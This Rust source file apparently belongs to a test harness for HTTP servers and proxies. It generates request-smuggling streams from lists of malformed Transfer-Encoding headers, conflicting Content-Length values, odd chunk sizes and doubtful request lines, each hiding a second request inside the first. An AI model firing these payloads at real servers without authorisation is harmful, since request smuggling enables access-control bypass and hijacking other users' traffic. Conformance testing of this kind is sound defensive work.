//! Requests that two servers can read differently.

/// A stream of bytes on one connection.
#[derive(Debug, Clone)]
pub struct Attack {
    /// What is tried.
    pub name: String,
    /// The stream; an honest request for `tail` ends it.
    pub bytes: Vec<u8>,
    /// The path that its first request is for, below the mount.
    pub path: String,
    /// The path of the honest request at its end.
    pub tail: String,
}

/// Where streams go: what stands before every path, and the host.
struct Aim<'a> {
    mount: &'a str,
    host: &'a str,
}

/// Codings that are no `chunked` for one of two servers, or for both.
const CODINGS: [&str; 18] = [
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \u{b}chunked",
    "Transfer-Encoding: chunked\0",
    "Transfer-Encoding : chunked",
    " Transfer-Encoding: chunked",
    "X: x\r\n Transfer-Encoding: chunked",
    "X: x\nTransfer-Encoding: chunked",
    "Transfer-Encoding\r\n: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "TRANSFER-ENCODING:   CHUNKED   ",
];
/// Lengths that are none, or not one.
const LENGTHS: [&str; 14] = [
    "Content-Length: 5\r\nContent-Length: 6",
    "Content-Length: 6\r\nContent-Length: 5",
    "Content-Length: 5, 6",
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: 0x5",
    "Content-Length: 5 5",
    "Content-Length: 5_0",
    "Content-Length: ",
    "Content-Length: 18446744073709551621",
    "Content-Length : 5",
    "Content-Length: 5\0",
    "Content-Length: 5\r\n Content-Length: 6",
    "X: x\rContent-Length: 5",
];
/// Chunks that one server takes for something else than another.
const CHUNKS: [&str; 13] = [
    "0x5\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    "-1\r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5 5\r\nhello\r\n0\r\n\r\n",
    "5\nhello\n0\n\n",
    "5;a=\nb\r\nhello\r\n0\r\n\r\n",
    "5\rX\nhello\r\n0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "\r\n5\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello\r\n0\r\nX : y\r\n\r\n",
];
/// Chunks that are odd and have one meaning: what follows them is the next request.
const ODD_CHUNKS: [&str; 5] = [
    "5;a=\"\r\nhello\r\n0\r\n\r\n",
    "5 ;a=b\r\nhello\r\n0;c\r\n\r\n",
    "00000005\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello\r\n0\r\nContent-Length: 5\r\nHost: other\r\nTransfer-Encoding: chunked\r\n\r\n",
    "5\r\nhello\r\n00000000000000000\r\n\r\n",
];
/// Fields that a careful server has doubts about.
const FIELDS: [&str; 12] = [
    "X\0Y: z",
    "X: y\0z",
    "X: y\rz",
    "X y: z",
    "no colon",
    ": no name",
    "X\u{e9}: z",
    "X: y\r\n folded",
    "Host: other.localhost",
    "X: y\n",
    "Connection: close, Host, Content-Length",
    "Expect: 100-continue\r\nExpect: something",
];
/// First lines that a careful server has doubts about; `{}` is the path.
const LINES: [&str; 13] = [
    "GET {}\r\n",
    "GET {} HTTP/1.1 \r\n",
    "GET  {} HTTP/1.1\r\n",
    "GET\t{}\tHTTP/1.1\r\n",
    "GET {} HTTP/1.2\r\n",
    "GET {} HTTP/2.0\r\n",
    "GET {} HTTP/01.1\r\n",
    "GET {} http/1.1\r\n",
    "GET {} HTTP/1.1\r\r\n",
    "GET {} x HTTP/1.1\r\n",
    " GET {} HTTP/1.1\r\n",
    "G\0ET {} HTTP/1.1\r\n",
    "GET {}\u{b}?x HTTP/1.1\r\n",
];

/// All streams, for a server that knows what it serves below `mount` at `host`. The hidden requests are for `/hidden/…`.
#[must_use]
pub fn attacks(mount: &str, host: &str) -> Vec<Attack> {
    let aim = Aim { mount, host };
    let mut all = Vec::new();
    let mut add = |name: String, make: &dyn Fn(&Aim<'_>, usize) -> String| {
        let number = all.len();
        let (path, tail) = (format!("/x/{number}"), format!("/tail/{number}"));
        let bytes = make(&aim, number) + &aim.request("GET", &tail, "Connection: close\r\n", "");
        all.push(Attack { name, bytes: latin1(&bytes), path, tail });
    };
    for method in ["GET", "POST"] {
        for coding in CODINGS {
            // By the length, the hidden request is in the body; by the chunks, it comes after it.
            add(format!("{method}: a length, and {coding:?}"), &|aim, number| {
                let body = format!("0\r\n\r\n{}", aim.hidden(number));
                aim.request(
                    method,
                    &aim.path(number),
                    &format!("Content-Length: {}\r\n{coding}\r\n", body.len()),
                    &body,
                )
            });
            // By the chunks, the hidden request is in the body; by the length, it comes after it.
            add(format!("{method}: {coding:?}, and a length"), &|aim, number| {
                let hidden = aim.hidden(number);
                let first = format!("{:x}\r\n", hidden.len());
                let fields = format!("{coding}\r\nContent-Length: {}\r\n", first.len());
                aim.request(method, &aim.path(number), &fields, &format!("{first}{hidden}\r\n0\r\n\r\n"))
            });
        }
        for length in LENGTHS {
            add(format!("{method}: {length:?}"), &|aim, number| {
                aim.request(
                    method,
                    &aim.path(number),
                    &format!("{length}\r\n"),
                    &format!("hello{}", aim.hidden(number)),
                )
            });
        }
        for chunk in ODD_CHUNKS {
            add(format!("{method}: the odd chunk {chunk:?}"), &|aim, number| {
                aim.request(method, &aim.path(number), "Transfer-Encoding: chunked\r\n", chunk)
            });
        }
        for chunk in CHUNKS {
            add(format!("{method}: the chunk {chunk:?}"), &|aim, number| {
                // The rest of the connection is doubtful, so no request in it may be asked for.
                let hidden = aim.hidden(number);
                aim.request(method, &aim.path(number), "Transfer-Encoding: chunked\r\n", &format!("{chunk}{hidden}"))
            });
        }
    }
    for field in FIELDS {
        add(format!("the field {field:?}"), &|aim, number| {
            aim.request("GET", &aim.path(number), &format!("{field}\r\n"), "")
        });
    }
    for line in LINES {
        add(format!("the line {line:?}"), &|aim, number| {
            let line = line.replace("{}", &format!("{}{}", aim.mount, aim.path(number)));
            format!("{line}Host: {}\r\n\r\n", aim.host)
        });
    }
    add("a body on a GET".to_owned(), &|aim, number| {
        let hidden = aim.hidden(number);
        aim.request("GET", &aim.path(number), &format!("Content-Length: {}\r\n", hidden.len()), &hidden)
    });
    add("bare line feeds".to_owned(), &|aim, number| {
        aim.request("GET", &aim.path(number), "X: y\r\n", "").replace("\r\n", "\n")
    });
    add("another protocol in clear text".to_owned(), &|aim, number| {
        let fields = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n";
        aim.request("GET", &aim.path(number), fields, "")
    });
    add("the preface of HTTP/2".to_owned(), &|_, _| "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned());
    add("a proxy's request for another host".to_owned(), &|aim, number| {
        format!("GET http://example.org{} HTTP/1.1\r\nHost: {}\r\n\r\n", aim.path(number), aim.host)
    });
    add("TLS".to_owned(), &|_, _| "\u{16}\u{3}\u{1}\u{0}\u{5}\u{1}\u{0}\u{0}\u{1}\u{0}\r\n\r\n".to_owned());
    all
}

/// Letters above ASCII go as one octet each: such octets are in no field name.
fn latin1(text: &str) -> Vec<u8> {
    text.chars().map(|letter| u8::try_from(u32::from(letter)).unwrap_or(b'?')).collect()
}

// === impl Aim ===

impl Aim<'_> {
    fn path(&self, number: usize) -> String {
        format!("/x/{number}")
    }

    fn request(&self, method: &str, path: &str, fields: &str, body: &str) -> String {
        let (mount, host) = (self.mount, self.host);
        format!("{method} {mount}{path} HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n{body}")
    }

    fn hidden(&self, number: usize) -> String {
        self.request("GET", &format!("/hidden/{number}"), "", "")
    }
}
